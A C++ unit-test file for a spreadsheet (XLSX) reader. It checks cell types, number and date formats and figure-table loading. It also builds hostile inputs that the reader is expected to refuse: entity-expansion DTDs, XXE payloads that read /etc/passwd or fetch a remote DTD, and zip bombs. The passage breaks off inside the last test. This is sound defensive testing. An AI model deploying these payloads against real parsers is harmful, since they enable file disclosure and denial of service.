// Excel figure tables (cds/zip/xlsx_read.hpp): workbooks built here in memory, part by part, as Excel
// and LibreOffice write them — every kind of cell, number formats, skipped cells, the 1904 date
// system — then read into rows and through load_figure_table; the template written by cds_xlsx read
// back; and hostile files (entity expansion, external entities, ZIP bombs, encryption, damage,
// limits), each refused with its reason.
#include <gtest/gtest.h>
#include <zlib.h>

#include <filesystem>

#include "cds/model/report.hpp"
#include "cds/office/figure_table.hpp"
#include "cds/xlsx/render.hpp"
#include "cds/zip/xlsx_read.hpp"
#include "cds/zip/zip.hpp"
#include "test_util.hpp"

namespace {

using cds::zip::read_xlsx_sheet;
using cds::zip::XlsxLimits;

const cds::Rubric& tinh() {
  static cds::Rubric r = *cds::load_rubric(testutil::slurp("assets/rubrics/soctrang-2023-thidua-tinh.json")).rubric;
  return r;
}

std::string errors(const cds::Messages& ms) {
  std::string s;
  for (const auto& m : ms) s += m.code + ": " + m.text() + " [" + m.where + "]\n";
  return s;
}

// ---- a ZIP written by hand (stored or deflated entries, any flags), for the hostile cases ----
void le16(std::string& s, unsigned v) {
  s.push_back(static_cast<char>(v & 0xff));
  s.push_back(static_cast<char>((v >> 8) & 0xff));
}
void le32(std::string& s, unsigned long v) {
  le16(s, static_cast<unsigned>(v & 0xffff));
  le16(s, static_cast<unsigned>((v >> 16) & 0xffff));
}
std::string raw_deflate(const std::string& data) {
  z_stream zs{};
  deflateInit2(&zs, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY);
  std::string out(deflateBound(&zs, static_cast<uLong>(data.size())), '\0');
  zs.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(data.data()));
  zs.avail_in = static_cast<uInt>(data.size());
  zs.next_out = reinterpret_cast<Bytef*>(&out[0]);
  zs.avail_out = static_cast<uInt>(out.size());
  deflate(&zs, Z_FINISH);
  out.resize(zs.total_out);
  deflateEnd(&zs);
  return out;
}
struct Entry {
  std::string name, data;
  bool deflate = true;
  unsigned flags = 0;
  long long claimed_size = -1;  // the uncompressed size written in the headers (-1: the true one)
};
std::string hand_zip(const std::vector<Entry>& entries) {
  std::string out, central;
  for (const auto& e : entries) {
    std::string body = e.deflate ? raw_deflate(e.data) : e.data;
    unsigned long crc = crc32(0, reinterpret_cast<const Bytef*>(e.data.data()), static_cast<uInt>(e.data.size()));
    unsigned long size = e.claimed_size >= 0 ? static_cast<unsigned long>(e.claimed_size) : static_cast<unsigned long>(e.data.size());
    unsigned long offset = static_cast<unsigned long>(out.size());
    std::string h;
    le32(h, 0x04034b50);
    le16(h, 20);
    le16(h, e.flags);
    le16(h, e.deflate ? 8 : 0);
    le16(h, 0);
    le16(h, 0x21);
    le32(h, crc);
    le32(h, static_cast<unsigned long>(body.size()));
    le32(h, size);
    le16(h, static_cast<unsigned>(e.name.size()));
    le16(h, 0);
    out += h + e.name + body;
    std::string c;
    le32(c, 0x02014b50);
    le16(c, 20);
    le16(c, 20);
    le16(c, e.flags);
    le16(c, e.deflate ? 8 : 0);
    le16(c, 0);
    le16(c, 0x21);
    le32(c, crc);
    le32(c, static_cast<unsigned long>(body.size()));
    le32(c, size);
    le16(c, static_cast<unsigned>(e.name.size()));
    le16(c, 0);
    le16(c, 0);
    le16(c, 0);
    le16(c, 0);
    le32(c, 0);
    le32(c, offset);
    central += c + e.name;
  }
  unsigned long cd_offset = static_cast<unsigned long>(out.size());
  out += central;
  std::string end;
  le32(end, 0x06054b50);
  le16(end, 0);
  le16(end, 0);
  le16(end, static_cast<unsigned>(entries.size()));
  le16(end, static_cast<unsigned>(entries.size()));
  le32(end, static_cast<unsigned long>(central.size()));
  le32(end, cd_offset);
  le16(end, 0);
  return out + end;
}

// ---- a workbook, part by part ----
struct Book {
  std::string sheet_data;         // the <sheetData> content
  std::string shared;             // <sst> content ("" = no shared-string part)
  std::string num_fmts, cell_xfs; // <numFmts> and <cellXfs> content ("" = no styles part)
  std::string workbook_pr;        // e.g. <workbookPr date1904="1"/>
  std::string sheet_prolog;       // what comes before <worksheet> (a DOCTYPE, in hostile cases)
  bool notes_sheet_first = false; // a second worksheet listed first in the tabs
  std::vector<Entry> extra;       // more parts
};

const char* kMain = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const char* kRel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

std::vector<Entry> parts(const Book& b) {
  std::string ns = std::string(" xmlns=\"") + kMain + "\" xmlns:r=\"" + kRel + "\"";
  std::vector<Entry> e;
  e.push_back({"[Content_Types].xml",
               "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
               "<Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>"});
  e.push_back({"_rels/.rels",
               "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
               "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/>"
               "</Relationships>"});
  std::string sheets = b.notes_sheet_first ? "<sheet name=\"Ghi chú\" sheetId=\"2\" r:id=\"rId2\"/><sheet name=\"Số liệu\" sheetId=\"1\" r:id=\"rId1\"/>"
                                           : "<sheet name=\"Số liệu\" sheetId=\"1\" r:id=\"rId1\"/>";
  e.push_back({"xl/workbook.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook" + ns + ">" + b.workbook_pr + "<sheets>" + sheets + "</sheets></workbook>"});
  std::string rels = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                     "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
                     "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"/xl/worksheets/sheet2.xml\"/>";
  if (!b.shared.empty())
    rels += "<Relationship Id=\"rId3\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings\" Target=\"sharedStrings.xml\"/>";
  if (!b.cell_xfs.empty())
    rels += "<Relationship Id=\"rId4\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" Target=\"styles.xml\"/>";
  e.push_back({"xl/_rels/workbook.xml.rels", rels + "</Relationships>"});
  e.push_back({"xl/worksheets/sheet1.xml", b.sheet_prolog + "<worksheet" + ns + "><sheetData>" + b.sheet_data + "</sheetData></worksheet>"});
  e.push_back({"xl/worksheets/sheet2.xml", "<worksheet" + ns + "><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>ghi chú</t></is></c></row></sheetData></worksheet>"});
  if (!b.shared.empty()) e.push_back({"xl/sharedStrings.xml", "<sst" + ns + ">" + b.shared + "</sst>"});
  if (!b.cell_xfs.empty())
    e.push_back({"xl/styles.xml", "<styleSheet" + ns + ">" + (b.num_fmts.empty() ? "" : "<numFmts>" + b.num_fmts + "</numFmts>") +
                                      "<cellStyleXfs><xf numFmtId=\"10\"/></cellStyleXfs><cellXfs>" + b.cell_xfs + "</cellXfs></styleSheet>"});
  for (const auto& x : b.extra) e.push_back(x);
  return e;
}

// As Excel would write it (deflated), or through the adapter's own writer (stored).
std::string xlsx(const Book& b) { return hand_zip(parts(b)); }
std::string xlsx_stored(const Book& b) {
  std::vector<cds::DossierFile> files;
  for (const auto& e : parts(b)) files.push_back({e.name, e.data});
  return cds::zip::write_zip(files, cds::zip::ZipTime{});
}

std::vector<std::vector<std::string>> cells(const cds::zip::XlsxSheet& s) {
  std::vector<std::vector<std::string>> out;
  for (const auto& r : s.rows) out.push_back(r.cells);
  return out;
}

bool refused(const cds::zip::XlsxReadResult& r, const std::string& code) {
  return !r.sheet && !r.problems.empty() && r.problems[0].code == code && !r.problems[0].vi.empty() && !r.problems[0].en.empty();
}

// ============================================================================================

TEST(XlsxRead, EveryKindOfCell) {
  Book b;
  // Shared strings: plain, rich text in runs, with a phonetic guide that is not part of the text,
  // and one with significant spaces.
  b.shared = "<si><t>Mã đơn vị [unit]</t></si>"
             "<si><r><rPr><b/></rPr><t>Sở </t></r><r><t xml:space=\"preserve\">Tài chính</t></r><rPh sb=\"0\" eb=\"1\"><t>ソ</t></rPh></si>"
             "<si><t xml:space=\"preserve\">  cách  </t></si>"
             "<si><t>A&amp;B &lt;1&gt; &#7889;</t></si>";
  b.sheet_data =
      "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\" t=\"s\"><v>1</v></c><c r=\"C1\" t=\"s\"><v>2</v></c><c r=\"D1\" t=\"s\"><v>3</v></c></row>"
      "<row r=\"2\">"
      "<c r=\"A2\" t=\"inlineStr\"><is><t>SO-A</t></is></c>"
      "<c r=\"B2\" t=\"inlineStr\"><is><r><t>Sở </t></r><r><t>A</t></r></is></c>"
      "<c r=\"C2\" t=\"b\"><v>1</v></c><c r=\"D2\" t=\"b\"><v>0</v></c>"
      "<c r=\"E2\"><v>85.5</v></c><c r=\"F2\" t=\"n\"><v>1234</v></c>"
      "<c r=\"G2\"><v>0.30000000000000004</v></c><c r=\"H2\"><v>-2.5</v></c><c r=\"I2\"><v>1E-3</v></c><c r=\"J2\"><v>1.5E+3</v></c>"
      "<c r=\"K2\"><f>SUM(E2:F2)</f><v>1319.5</v></c>"
      "<c r=\"L2\" t=\"str\"><f>A2&amp;\"x\"</f><v>SO-Ax</v></c>"
      "<c r=\"M2\" t=\"e\"><f>1/0</f><v>#DIV/0!</v></c>"
      "<c r=\"N2\"><f>E2*2</f></c>"  // a formula never calculated: empty
      "<c r=\"O2\" t=\"d\"><v>2026-06-18T00:00:00</v></c>"
      "<c r=\"P2\"><v>123456789012345678</v></c><c r=\"Q2\"><v>0.1234567890123456</v></c>"
      "</row>";
  auto r = read_xlsx_sheet(xlsx(b));
  ASSERT_TRUE(r.sheet) << errors(r.problems);
  EXPECT_EQ(r.sheet->name, "Số liệu");
  ASSERT_EQ(r.sheet->rows.size(), 2u);
  EXPECT_EQ(r.sheet->rows[0].cells, (std::vector<std::string>{"Mã đơn vị [unit]", "Sở Tài chính", "  cách  ", "A&B <1> ố"}));
  EXPECT_EQ(r.sheet->rows[1].cells,
            (std::vector<std::string>{"SO-A", "Sở A", "Có", "Không", "85,5", "1234", "0,3", "-2,5", "0,001", "1500", "1319,5", "SO-Ax", "#DIV/0!", "",
                                      "18/06/2026", "123456789012346000", "0,123456789012346"}));
  EXPECT_EQ(r.sheet->rows[1].line, 2u);
  // The same bytes stored rather than deflated (the adapter's own writer) read the same.
  auto s = read_xlsx_sheet(xlsx_stored(b));
  ASSERT_TRUE(s.sheet) << errors(s.problems);
  EXPECT_EQ(cells(*s.sheet), cells(*r.sheet));
}

TEST(XlsxRead, NumberFormats) {
  Book b;
  // Custom codes: 164 a percentage with one decimal, 165 a Vietnamese date, 166 a time of day
  // (not a date), 167 text in quotes holding 'd' and '%' (a plain number), 168 a locale-tagged
  // date, 169 money with grouping and a currency in quotes, 170 elapsed hours.
  b.num_fmts = "<numFmt numFmtId=\"164\" formatCode=\"0.0%\"/><numFmt numFmtId=\"165\" formatCode=\"dd/mm/yyyy\"/>"
               "<numFmt numFmtId=\"166\" formatCode=\"h:mm\"/><numFmt numFmtId=\"167\" formatCode=\"0 &quot;ngày, %&quot;\"/>"
               "<numFmt numFmtId=\"168\" formatCode=\"[$-42A]d\\ mmmm\\ yyyy\"/><numFmt numFmtId=\"169\" formatCode=\"#,##0.00\\ &quot;đ&quot;\"/>"
               "<numFmt numFmtId=\"170\" formatCode=\"[h]:mm:ss\"/>";
  // cellXfs 0 General, 1 built-in 9 (0%), 2 built-in 10 (0.00%), 3 built-in 14 (date), 4 built-in
  // 22 (date and time), 5–11 the custom ones, 12 built-in 4 (#,##0.00), 13 built-in 20 (h:mm, a
  // time of day: a number).
  b.cell_xfs = "<xf numFmtId=\"0\"/><xf numFmtId=\"9\" applyNumberFormat=\"1\"/><xf numFmtId=\"10\"/><xf numFmtId=\"14\"/><xf numFmtId=\"22\"/>"
               "<xf numFmtId=\"164\"/><xf numFmtId=\"165\"/><xf numFmtId=\"166\"/><xf numFmtId=\"167\"/><xf numFmtId=\"168\"/><xf numFmtId=\"169\"/>"
               "<xf numFmtId=\"170\"/><xf numFmtId=\"4\"/><xf numFmtId=\"20\"/>";
  b.sheet_data =
      "<row r=\"1\">"
      "<c r=\"A1\" s=\"1\"><v>0.855</v></c><c r=\"B1\" s=\"2\"><v>0.72499999999999998</v></c><c r=\"C1\" s=\"3\"><v>45000</v></c>"
      "<c r=\"D1\" s=\"4\"><v>46000.75</v></c><c r=\"E1\" s=\"5\"><v>1</v></c><c r=\"F1\" s=\"6\"><v>61</v></c><c r=\"G1\" s=\"7\"><v>0.5</v></c>"
      "<c r=\"H1\" s=\"8\"><v>12</v></c><c r=\"I1\" s=\"9\"><v>2958465</v></c><c r=\"J1\" s=\"10\"><v>1234567.5</v></c>"
      "<c r=\"K1\" s=\"11\"><v>1.25</v></c><c r=\"L1\" s=\"12\"><v>1234.5</v></c><c r=\"M1\" s=\"99\"><v>7</v></c><c r=\"N1\" s=\"13\"><v>0.25</v></c>"
      "</row>"
      // Excel's 1900 calendar around its phantom 29 February 1900, and dates it cannot show.
      "<row r=\"2\"><c r=\"A2\" s=\"6\"><v>1</v></c><c r=\"B2\" s=\"6\"><v>59</v></c><c r=\"C2\" s=\"6\"><v>60</v></c><c r=\"D2\" s=\"6\"><v>0</v></c>"
      "<c r=\"E2\" s=\"6\"><v>-1</v></c><c r=\"F2\" s=\"6\"><v>2958466</v></c><c r=\"G2\" s=\"1\"><v>-0.05</v></c><c r=\"H2\" s=\"1\"><v>0</v></c></row>";
  auto r = read_xlsx_sheet(xlsx(b));
  ASSERT_TRUE(r.sheet) << errors(r.problems);
  ASSERT_EQ(r.sheet->rows.size(), 2u);
  EXPECT_EQ(r.sheet->rows[0].cells,
            (std::vector<std::string>{"85,5 %", "72,5 %", "15/03/2023", "09/12/2025", "100 %", "01/03/1900", "0,5", "12", "31/12/9999", "1234567,5",
                                      "1,25", "1234,5", "7", "0,25"}));
  EXPECT_EQ(r.sheet->rows[1].cells,
            (std::vector<std::string>{"01/01/1900", "28/02/1900", "29/02/1900", "00/01/1900", "-1", "2958466", "-5 %", "0 %"}));

  // The 1904 date system (old Mac workbooks): serial 0 is 1 January 1904.
  b.workbook_pr = "<workbookPr date1904=\"1\"/>";
  b.sheet_data = "<row r=\"1\"><c r=\"A1\" s=\"3\"><v>45000</v></c><c r=\"B1\" s=\"6\"><v>0</v></c><c r=\"C1\"><v>45000</v></c></row>";
  r = read_xlsx_sheet(xlsx(b));
  ASSERT_TRUE(r.sheet) << errors(r.problems);
  EXPECT_EQ(r.sheet->rows[0].cells, (std::vector<std::string>{"16/03/2027", "01/01/1904", "45000"}));
  b.workbook_pr = "<workbookPr date1904=\"true\"/>";
  r = read_xlsx_sheet(xlsx(b));
  ASSERT_TRUE(r.sheet) << errors(r.problems);
  EXPECT_EQ(r.sheet->rows[0].cells[0], "16/03/2027");
}

TEST(XlsxRead, SkippedCellsAndRowsKeepTheirPlace) {
  Book b;
  // Row 1 starts at B; row 2 is empty (only styled cells); row 4 has A and D; cells without a
  // reference follow the previous one; rows without a number follow the previous row.
  b.sheet_data = "<row r=\"1\"><c r=\"B1\" t=\"inlineStr\"><is><t>b1</t></is></c></row>"
                 "<row r=\"2\"><c r=\"A2\" s=\"0\"/><c r=\"B2\" s=\"0\"><v></v></c></row>"
                 "<row r=\"4\"><c r=\"A4\" t=\"inlineStr\"><is><t>a4</t></is></c><c r=\"D4\"><v>4</v></c><c><v>5</v></c></row>"
                 "<row><c t=\"inlineStr\"><is><t>a5</t></is></c><c r=\"AA5\"><v>27</v></c></row>"
                 "<row r=\"9\" spans=\"1:3\"><c r=\"c9\"><v>3</v></c></row>";
  auto r = read_xlsx_sheet(xlsx(b));
  ASSERT_TRUE(r.sheet) << errors(r.problems);
  ASSERT_EQ(r.sheet->rows.size(), 4u);
  EXPECT_EQ(r.sheet->rows[0].line, 1u);
  EXPECT_EQ(r.sheet->rows[0].cells, (std::vector<std::string>{"", "b1"}));
  EXPECT_EQ(r.sheet->rows[1].line, 4u);
  EXPECT_EQ(r.sheet->rows[1].cells, (std::vector<std::string>{"a4", "", "", "4", "5"}));
  EXPECT_EQ(r.sheet->rows[2].line, 5u);
  ASSERT_EQ(r.sheet->rows[2].cells.size(), 27u);
  EXPECT_EQ(r.sheet->rows[2].cells[0], "a5");
  EXPECT_EQ(r.sheet->rows[2].cells[26], "27");
  EXPECT_EQ(r.sheet->rows[3].line, 9u);
  EXPECT_EQ(r.sheet->rows[3].cells, (std::vector<std::string>{"", "", "3"}));
}

TEST(XlsxRead, FirstWorksheetInTabOrder) {
  Book b;
  b.notes_sheet_first = true;  // "Ghi chú" (sheet2.xml, an absolute target) is the first tab
  b.sheet_data = "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>";
  auto r = read_xlsx_sheet(xlsx(b));
  ASSERT_TRUE(r.sheet) << errors(r.problems);
  EXPECT_EQ(r.sheet->name, "Ghi chú");
  EXPECT_EQ(r.sheet->rows[0].cells, (std::vector<std::string>{"ghi chú"}));
}

TEST(XlsxRead, FigureTableFromAWorkbook) {
  // The tỉnh rubric: criterion 1 (yes/no and dates), 2 (a choice by its label), 3 (a percentage),
  // 15 (a ratio in two columns). Excel stores what the office typed: TRUE, a date, 72,5 % and
  // numbers; the row's note in an inline string; the header row in shared strings.
  Book b;
  b.shared = "<si><t>Mã đơn vị [unit]</t></si><si><t>Ban hành [1/da_ban_hanh]</t></si><si><t>Ngày [1/ngay_ban_hanh]</t></si>"
             "<si><t>Nhân sự [2/nhan_su]</t></si><si><t>Cổng DVC [3/ty_le]</t></si><si><t>Tử số [15/he_thong.num]</t></si>"
             "<si><t>Mẫu số [15/he_thong.den]</t></si><si><t>Ghi chú [reason]</t></si><si><t>SO-A</t></si>";
  b.num_fmts = "<numFmt numFmtId=\"164\" formatCode=\"0.0%\"/>";
  b.cell_xfs = "<xf numFmtId=\"0\"/><xf numFmtId=\"164\"/><xf numFmtId=\"14\"/>";
  std::string head;
  for (int i = 0; i < 8; ++i) head += "<c r=\"" + std::string(1, static_cast<char>('A' + i)) + "1\" t=\"s\"><v>" + std::to_string(i) + "</v></c>";
  b.sheet_data = "<row r=\"1\">" + head + "</row>"
                 "<row r=\"3\"><c r=\"A3\" t=\"s\"><v>8</v></c><c r=\"B3\" t=\"b\"><v>1</v></c><c r=\"C3\" s=\"2\"><v>45000</v></c>"
                 "<c r=\"D3\" t=\"inlineStr\"><is><t>Bố trí nhân sự đạt chuẩn theo vị trí việc làm</t></is></c><c r=\"E3\" s=\"1\"><v>0.725</v></c>"
                 "<c r=\"F3\"><v>3</v></c><c r=\"G3\"><v>4</v></c><c r=\"H3\" t=\"inlineStr\"><is><t>Theo Cổng DVC</t></is></c></row>"
                 "<row r=\"5\"><c r=\"A5\" t=\"inlineStr\"><is><t>SO-B</t></is></c><c r=\"E5\" s=\"1\"><v>1.5</v></c></row>";
  auto r = read_xlsx_sheet(xlsx(b));
  ASSERT_TRUE(r.sheet) << errors(r.problems);
  auto lt = cds::load_figure_table(r.sheet->rows, tinh());
  ASSERT_TRUE(lt.table) << errors(lt.messages);
  const auto& t = *lt.table;
  ASSERT_EQ(t.columns.size(), 6u);
  ASSERT_EQ(t.rows.size(), 2u);
  EXPECT_EQ(t.rows[0].unit_code, "SO-A");
  EXPECT_EQ(t.rows[0].cells, (std::vector<std::string>{"Có", "15/03/2023", "Bố trí nhân sự đạt chuẩn theo vị trí việc làm", "72,5 %", "3", "4"}));
  EXPECT_EQ(t.rows[0].reason, "Theo Cổng DVC");
  EXPECT_EQ(t.rows[0].line, 3u);
  // 150 % is out of range: the error names Excel's row 5 and column E.
  ASSERT_EQ(lt.messages.size(), 1u) << errors(lt.messages);
  EXPECT_EQ(lt.messages[0].where, "E5");
  EXPECT_NE(lt.messages[0].vi.find("vượt 100"), std::string::npos) << lt.messages[0].vi;

  // Each value as the unit's answers take it; criterion 3 re-scored: 72,5 % of 4 points / 95 %.
  cds::Answers a = cds::answers_template(tinh());
  a.unit = {"Sở A", "SO-A", "so"};
  a.set_value("3", "ty_le", 95);
  std::vector<cds::Num> current(tinh().criteria.size());
  for (size_t i = 0; i < current.size(); ++i) current[i] = cds::score_criterion(tinh(), i, a).score;
  auto f = cds::apply_figures(t, t.rows[0], tinh(), a, current, "");
  size_t c3 = static_cast<size_t>(tinh().criterion("3") - tinh().criteria.data());
  bool found = false;
  for (const auto& ch : f.changes)
    if (ch.criterion == c3) {
      found = true;
      EXPECT_EQ(ch.after, testutil::n("3.05")) << ch.after.to_string(6);  // 72,5/95 × 4 = 3,0526… → 3,05
      EXPECT_NE(ch.reason.find("72,5 % (đơn vị khai 95 %)"), std::string::npos) << ch.reason;
    }
  EXPECT_TRUE(found);
}

TEST(XlsxRead, TemplateRoundTrip) {
  // The template as a workbook through cds_xlsx (shared strings, styles, frozen panes), read back:
  // the same cells as the CSV template, every code and key as written.
  const cds::Rubric& r = tinh();
  cds::Answers a = cds::answers_template(r);
  a.set_value("3", "ty_le", 90);
  std::vector<cds::FigureTemplateUnit> units{{"001", "Sở Nội vụ", &a}, {"=SO-B", "Sở \"B\"; Tài chính", nullptr}};
  cds::Workbook wb = cds::figure_table_template_workbook(r, {}, units, cds::Lang::Vi, 1764547200);
  std::string scratch = std::filesystem::temp_directory_path().string();
  std::string why;
  auto bytes = cds::render_xlsx(wb, scratch, &why);
  ASSERT_TRUE(bytes) << why;
  auto x = read_xlsx_sheet(*bytes);
  ASSERT_TRUE(x.sheet) << errors(x.problems);
  EXPECT_EQ(x.sheet->name, "Bảng số liệu");
  auto csv = cds::load_figure_table(cds::figure_table_template(r, {}, units, cds::Lang::Vi), r);
  auto book = cds::load_figure_table(x.sheet->rows, r);
  ASSERT_TRUE(csv.table && book.table) << errors(csv.messages) << errors(book.messages);
  ASSERT_EQ(book.table->columns.size(), csv.table->columns.size());
  for (size_t i = 0; i < csv.table->columns.size(); ++i) {
    EXPECT_EQ(book.table->columns[i].key, csv.table->columns[i].key);
    EXPECT_EQ(book.table->columns[i].column, csv.table->columns[i].column);
  }
  ASSERT_EQ(book.table->rows.size(), 2u);
  EXPECT_EQ(book.table->rows[0].unit_code, "001");
  EXPECT_EQ(book.table->rows[1].unit_code, "=SO-B");
  EXPECT_EQ(book.table->rows[1].unit_name, "Sở \"B\"; Tài chính");
  EXPECT_EQ(x.sheet->rows[0].cells.front(), "Mã đơn vị [unit]");
  EXPECT_EQ(x.sheet->rows[0].cells.back(), "Ghi chú / lý do [reason]");
  // The declared figure beside its column, as text ("90"), the figure column empty to fill.
  size_t self = 0;
  for (size_t i = 0; i < x.sheet->rows[0].cells.size(); ++i)
    if (x.sheet->rows[0].cells[i].find("[self:3/ty_le]") != std::string::npos) self = i;
  ASSERT_GT(self, 0u);
  EXPECT_EQ(x.sheet->rows[1].cells[self], "90");
  EXPECT_TRUE(x.sheet->rows[1].cells.size() <= self + 1 || x.sheet->rows[1].cells[self + 1].empty());
  EXPECT_FALSE(cds::has_errors(book.messages)) << errors(book.messages);
}

// A workbook with few cells but much text (a streamed sheet whose producer says so) takes
// libxlsxwriter's constant-memory path, strings inline, so that its memory does not grow with the
// text; the same sheet with little text keeps the shared-string table. The cells read back alike.
TEST(XlsxRead, MuchTextIsWrittenInline) {
  auto book = [](size_t estimate) {
    cds::Workbook wb;
    cds::Sheet& sh = wb.add_sheet("Tiêu chí");
    sh.rows.push_back({cds::text_cell("Mã đơn vị"), cds::text_cell("Tài liệu kiểm chứng")});
    sh.stream_rows = 3;
    sh.stream = [](size_t i, cds::Row& out) {
      out.push_back(cds::text_cell("SO-" + std::to_string(i)));
      out.push_back(cds::text_cell("Kế hoạch " + std::to_string(i) + ".pdf (có trong hồ sơ)"));
    };
    sh.stream_text_bytes = estimate;
    return wb;
  };
  std::string scratch = std::filesystem::temp_directory_path().string();
  for (size_t estimate : {size_t{0}, cds::kConstantMemoryTextBytes, cds::kConstantMemoryTextBytes + 1}) {
    cds::Workbook wb = book(estimate);
    EXPECT_EQ(wb.text_bytes(), std::string("Mã đơn vị").size() + std::string("Tài liệu kiểm chứng").size() + estimate);
    std::string why;
    auto bytes = cds::render_xlsx(wb, scratch, &why);
    ASSERT_TRUE(bytes) << why;
    auto z = cds::zip::read_zip(*bytes);
    ASSERT_TRUE(z.ok()) << errors(z.problems);
    bool shared = false;
    for (const auto& f : z.files) shared = shared || f.name == "xl/sharedStrings.xml";
    EXPECT_EQ(shared, wb.text_bytes() <= cds::kConstantMemoryTextBytes) << estimate;
    auto x = read_xlsx_sheet(*bytes);
    ASSERT_TRUE(x.sheet) << errors(x.problems);
    ASSERT_EQ(x.sheet->rows.size(), 4u);
    EXPECT_EQ(x.sheet->rows[3].cells, (std::vector<std::string>{"SO-2", "Kế hoạch 2.pdf (có trong hồ sơ)"}));
  }
}

// ---- hostile and broken files ----

TEST(XlsxRead, EntityExpansionIsRefused) {
  // "Billion laughs": ten levels of ten references, 10^9 copies of "lol" once expanded.
  std::string dtd = "<?xml version=\"1.0\"?><!DOCTYPE worksheet [<!ENTITY lol \"lol\">";
  for (int i = 1; i <= 9; ++i) {
    std::string prev = i == 1 ? "lol" : "lol" + std::to_string(i - 1);
    dtd += "<!ENTITY lol" + std::to_string(i) + " \"";
    for (int k = 0; k < 10; ++k) dtd += "&" + prev + ";";
    dtd += "\">";
  }
  dtd += "]>";
  Book b;
  b.sheet_prolog = dtd;
  b.sheet_data = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&lol9;</t></is></c></row>";
  auto r = read_xlsx_sheet(xlsx(b));
  EXPECT_TRUE(refused(r, "xlsx.dtd")) << errors(r.problems);
  EXPECT_EQ(r.problems[0].where, "xl/worksheets/sheet1.xml");
  // The same in the shared strings.
  Book s;
  s.shared = "<si><t>x</t></si>";
  s.sheet_data = "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>";
  auto p = parts(s);
  for (auto& e : p)
    if (e.name == "xl/sharedStrings.xml") e.data = dtd + "<sst xmlns=\"" + std::string(kMain) + "\"><si><t>&lol9;</t></si></sst>";
  r = read_xlsx_sheet(hand_zip(p));
  EXPECT_TRUE(refused(r, "xlsx.dtd")) << errors(r.problems);
  // A quadratic blow-up without nesting (one large entity used many times) is refused the same way.
  Book q;
  q.sheet_prolog = "<!DOCTYPE worksheet [<!ENTITY a \"" + std::string(10000, 'a') + "\">]>";
  q.sheet_data = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>";
  for (int i = 0; i < 1000; ++i) q.sheet_data += "&a;";
  q.sheet_data += "</t></is></c></row>";
  r = read_xlsx_sheet(xlsx(q));
  EXPECT_TRUE(refused(r, "xlsx.dtd")) << errors(r.problems);
}

TEST(XlsxRead, ExternalEntitiesAreNeverRead) {
  // An external entity (a file on the machine, a URL) and an external parameter entity: refused
  // before anything is fetched; the file's text never reaches a cell.
  for (std::string dtd : {std::string("<!DOCTYPE worksheet [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
                          std::string("<!DOCTYPE worksheet [<!ENTITY % p SYSTEM \"http://example.invalid/evil.dtd\"> %p;]>"),
                          std::string("<!DOCTYPE worksheet SYSTEM \"file:///etc/passwd\">")}) {
    Book b;
    b.sheet_prolog = "<?xml version=\"1.0\"?>" + dtd;
    b.sheet_data = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&x;</t></is></c></row>";
    auto r = read_xlsx_sheet(xlsx(b));
    EXPECT_TRUE(refused(r, "xlsx.dtd")) << dtd << "\n" << errors(r.problems);
  }
  // Without a DTD an entity reference is simply not defined: damaged XML, nothing expanded.
  Book u;
  u.sheet_data = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&x;</t></is></c></row>";
  auto r = read_xlsx_sheet(xlsx(u));
  EXPECT_TRUE(refused(r, "xlsx.xml")) << errors(r.problems);
}

TEST(XlsxRead, ZipBombsAreRefused) {
  Book b;
  b.sheet_data = "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>";
  // A part inflating from a few kB to 40 MiB: an abnormal ratio, refused from the directory alone.
  auto p = parts(b);
  p.push_back({"xl/media/bomb.bin", std::string(40u << 20, '\0')});
  auto r = read_xlsx_sheet(hand_zip(p));
  EXPECT_TRUE(refused(r, "xlsx.bomb")) << errors(r.problems);
  // A part whose directory entry lies about its size (1000 bytes for 3 MiB): minizip inflates no
  // more than the size declared, and the CRC of that much does not match.
  p = parts(b);
  p.push_back({"xl/worksheets/sheet3.xml", std::string(3u << 20, ' '), true, 0, 1000});
  r = read_xlsx_sheet(hand_zip(p));
  EXPECT_TRUE(refused(r, "xlsx.bomb") || refused(r, "xlsx.damaged")) << errors(r.problems);
  // Parts that add up past the limit (each below the ratio check's threshold).
  XlsxLimits lim;
  lim.zip.total_bytes = 64 * 1024;
  p = parts(b);
  for (int i = 0; i < 4; ++i) p.push_back({"xl/x" + std::to_string(i) + ".xml", std::string(20000, 'x')});
  r = read_xlsx_sheet(hand_zip(p), lim);
  EXPECT_TRUE(refused(r, "xlsx.bomb")) << errors(r.problems);
  // Larger than the file limit itself.
  lim = XlsxLimits{};
  lim.file_bytes = 100;
  r = read_xlsx_sheet(xlsx(b), lim);
  EXPECT_TRUE(refused(r, "xlsx.too_large")) << errors(r.problems);
}

TEST(XlsxRead, EncryptedOldAndForeignFiles) {
  // Excel's password protection wraps the workbook in an OLE compound file with an
